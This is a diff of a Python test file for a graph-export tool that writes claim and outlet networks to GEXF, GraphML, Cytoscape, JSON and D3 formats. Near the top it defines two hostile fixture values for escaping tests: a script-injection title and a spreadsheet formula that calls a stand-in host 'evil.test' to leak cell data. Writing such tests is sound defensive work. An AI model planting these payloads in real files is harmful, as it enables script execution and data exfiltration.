@@ -12,18 +12,21 @@ from typing import Any
 import networkx as nx
 import pytest
 from defusedxml import ElementTree
+from lxml import etree
 
-from tracker import queries_story
+from tracker.domain.story import ClaimStory
 from tracker.errors import BadInput, NotFound
-from tracker.export import GraphFormat, projection, write_graph, write_story_files
-from tracker.graph import build_claim_graph, build_outlet_graph
-from tracker.story import ClaimStory
+from tracker.export.files import GraphFormat, projection, write_graph, write_story_files
+from tracker.export.graph import build_claim_graph, build_outlet_graph
+from tracker.queries import story as queries_story
 from tracker.testing.stories import demo_like_story
 
-from .cli_run import run_cli
+from .support.cli_run import run_cli
 
 HOSTILE_TITLE = "</script><script>alert(1)</script>"
 FORMULA_TITLE = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
+GEXF_SCHEMA = Path(__file__).parent / "fixtures" / "gexf-1.2" / "gexf.xsd"
+GEXF_WRITTEN, GEXF_SCHEMA_NS = "http://www.gexf.net/1.2draft", "http://www.gexf.net/1.2"
 XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
 
 
@@ -61,7 +64,9 @@ def read_back(fmt: GraphFormat, path: Path, multigraph: bool) -> nx.Graph:
     data = json.loads(path.read_text(encoding="utf-8"))
     if fmt is GraphFormat.CYTOSCAPE:
         return nx.cytoscape_graph(data)
-    return nx.node_link_graph(data, edges="links")
+    if fmt is GraphFormat.D3:
+        return nx.node_link_graph(data, edges="links")
+    return nx.node_link_graph(data)  # networkx's defaults, as a user would call it
 
 
 # What each reader adds to every edge by itself (bookkeeping, not our data).
@@ -79,7 +84,14 @@ def edge_table(graph: nx.Graph, drop: set[str] = frozenset()) -> dict[tuple[Any,
 
 @pytest.mark.parametrize("level", ["claim", "outlet"])
 @pytest.mark.parametrize(
-    "fmt", [GraphFormat.GEXF, GraphFormat.GRAPHML, GraphFormat.CYTOSCAPE, GraphFormat.JSON]
+    "fmt",
+    [
+        GraphFormat.GEXF,
+        GraphFormat.GRAPHML,
+        GraphFormat.CYTOSCAPE,
+        GraphFormat.JSON,
+        GraphFormat.D3,
+    ],
 )
 def test_every_graph_format_re_reads_with_the_same_nodes_edges_and_attributes(
     story: ClaimStory, tmp_path: Path, fmt: GraphFormat, level: str
@@ -121,6 +133,26 @@ def test_the_projection_loses_nothing(story: ClaimStory, fmt: GraphFormat) -> No
         assert written == data
 
 
+@pytest.mark.parametrize("level", ["claim", "outlet"])
+def test_graphml_edge_ids_are_unique_and_the_file_still_re_reads(
+    story: ClaimStory, tmp_path: Path, level: str
+) -> None:
+    """Gephi drops an edge whose id it has already seen; networkx keeps every edge."""
+    graph = graphs(story)[level]
+    path = write_graph(graph, "graphml", Path("g.graphml"), root=tmp_path)
+    ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
+    edges = ElementTree.parse(path).getroot().findall("g:graph/g:edge", ns)
+    ids = [edge.get("id") for edge in edges]
+    assert len(edges) == graph.number_of_edges() > 1
+    assert all(ids) and len(set(ids)) == len(ids)
+    again = nx.read_graphml(path, edge_key_type=str, force_multigraph=graph.is_multigraph())
+    if graph.is_multigraph():
+        written = {(u, v, data["kind"]) for u, v, data in again.edges(data=True)}
+        assert written == set(graph.edges(keys=True))
+    else:
+        assert set(again.edges) == set(graph.edges)
+
+
 def test_gexf_is_dynamic_so_gephi_replays_the_spread(story: ClaimStory, tmp_path: Path) -> None:
     path = write_graph(build_claim_graph(story), "gexf", Path("s.gexf"), root=tmp_path)
     root = ElementTree.parse(path).getroot()
@@ -138,6 +170,51 @@ def test_gexf_is_dynamic_so_gephi_replays_the_spread(story: ClaimStory, tmp_path
     values = [v.get("value") for v in spells]
     assert "asserts" in values and "disputes" in values and "noted" in values
     assert all(v.get("end") for v in spells)
+
+
+def in_schema_namespace(path: Path) -> Any:
+    """The written GEXF with its elements moved from the 1.2draft namespace (which networkx and
+    Gephi write) into the official 1.2 schema's; nothing else changes."""
+    # The file is our own output; lxml is needed for XML Schema (defusedxml has none).
+    root = etree.parse(str(path), etree.XMLParser(resolve_entities=False, no_network=True))
+    for element in root.iter():
+        if isinstance(element.tag, str) and element.tag.startswith(f"{{{GEXF_WRITTEN}"):
+            element.tag = element.tag.replace(GEXF_WRITTEN, GEXF_SCHEMA_NS, 1)
+    return root
+
+
+@pytest.fixture(scope="module")
+def gexf_schema() -> Any:
+    return etree.XMLSchema(etree.parse(str(GEXF_SCHEMA)))
+
+
+@pytest.mark.parametrize("level", ["claim", "outlet"])
+def test_gexf_is_valid_against_the_gexf_1_2_schema_with_weights(
+    story: ClaimStory, tmp_path: Path, level: str, gexf_schema: Any
+) -> None:
+    graph = graphs(story)[level]
+    path = write_graph(graph, "gexf", Path("g.gexf"), root=tmp_path)
+    document = in_schema_namespace(path)
+    assert gexf_schema.validate(document), [str(e) for e in gexf_schema.error_log]
+    ns = {"g": GEXF_SCHEMA_NS}
+    if level == "claim":  # the dynamic attributes (spells over time) are part of what validated
+        assert document.findall("g:graph/g:attributes[@mode='dynamic']", ns)
+        assert document.findall("g:graph/g:nodes/g:node/g:attvalues/g:attvalue[@start]", ns)
+    weights = {
+        edge.get("id"): edge.get("weight")
+        for edge in document.iterfind("g:graph/g:edges/g:edge", ns)
+    }
+    assert len(weights) == graph.number_of_edges()
+    edges = graph.edges(keys=True, data=True) if level == "claim" else graph.edges(data=True)
+    for edge in edges:
+        data = edge[-1]
+        expected = data.get("score", data.get("count"))
+        written = weights[f"{edge[0]}->{edge[1]}" + (f":{edge[2]}" if level == "claim" else "")]
+        assert (written is None) if expected is None else float(written) == pytest.approx(expected)
+    assert any(w is not None for w in weights.values())
+    # The schema is strict where networkx is not: the attribute networkx used to add fails it.
+    document.find("g:graph", ns).set("name", "")
+    assert not gexf_schema.validate(document)
 
 
 # ---------------------------------------------------------------- rows of mentions
@@ -249,7 +326,7 @@ def test_nan_and_infinity_are_left_out(tmp_path: Path) -> None:
     data = json.loads(path.read_text(encoding="utf-8"))
     lags = {node["id"]: node.get("lag_seconds") for node in data["nodes"]}
     assert lags["article-3"] is None and lags["article-5"] is None  # NaN and inf: omitted
-    first = data["links"][0]
+    first = data["edges"][0]
     assert "score" not in first and first["evidence"] == {"share": None, "x": ""}
 
 
@@ -399,7 +476,13 @@ def test_json_files_are_in_the_shape_cytoscape_js_and_d3_load(
     assert len(set(node_ids + edge_ids)) == len(node_ids) + len(edge_ids)  # ids unique overall
     assert all({e["data"]["source"], e["data"]["target"]} <= set(node_ids) for e in edges)
     assert isinstance(cyto["data"], dict) and cyto["data"]["claim"] == "ai-code"
-    d3 = json.loads(write_graph(graph, "json", Path("g.json"), root=tmp_path).read_text())
+    d3 = json.loads(write_graph(graph, "d3", Path("g.d3.json"), root=tmp_path).read_text())
     ids = {n["id"] for n in d3["nodes"]}
     assert len(ids) == graph.number_of_nodes() and len(d3["links"]) == graph.number_of_edges()
     assert all(link["source"] in ids and link["target"] in ids for link in d3["links"])
+    assert "edges" not in d3
+    plain = json.loads(write_graph(graph, "json", Path("g.json"), root=tmp_path).read_text())
+    assert "links" not in plain and len(plain["edges"]) == graph.number_of_edges()
+    again = nx.node_link_graph(plain)  # no arguments: what networkx reads by default
+    assert again.is_multigraph() and again.is_directed()
+    assert set(again.edges(keys=True)) == set(graph.edges(keys=True))
